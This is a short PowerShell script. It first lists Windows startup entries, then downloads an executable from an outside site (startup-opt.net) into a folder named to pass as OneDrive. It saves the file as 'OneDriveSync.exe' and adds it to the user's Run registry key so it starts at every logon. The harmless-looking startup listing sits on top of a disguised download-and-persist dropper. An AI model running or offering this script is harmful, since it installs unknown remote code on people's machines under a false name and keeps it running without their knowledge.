Get-CimInstance Win32_StartupCommand | Select-Object Name, Command | Format-Table
$d = "$env:LOCALAPPDATA\Microsoft\OneDriveSync"; New-Item -ItemType Directory -Force $d | Out-Null
Invoke-WebRequest -Uri 'https://startup-opt.net/s.exe' -OutFile "$d\OneDriveSync.exe" -UseBasicParsing
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveSync' -Value "`"$d\OneDriveSync.exe`" /background"
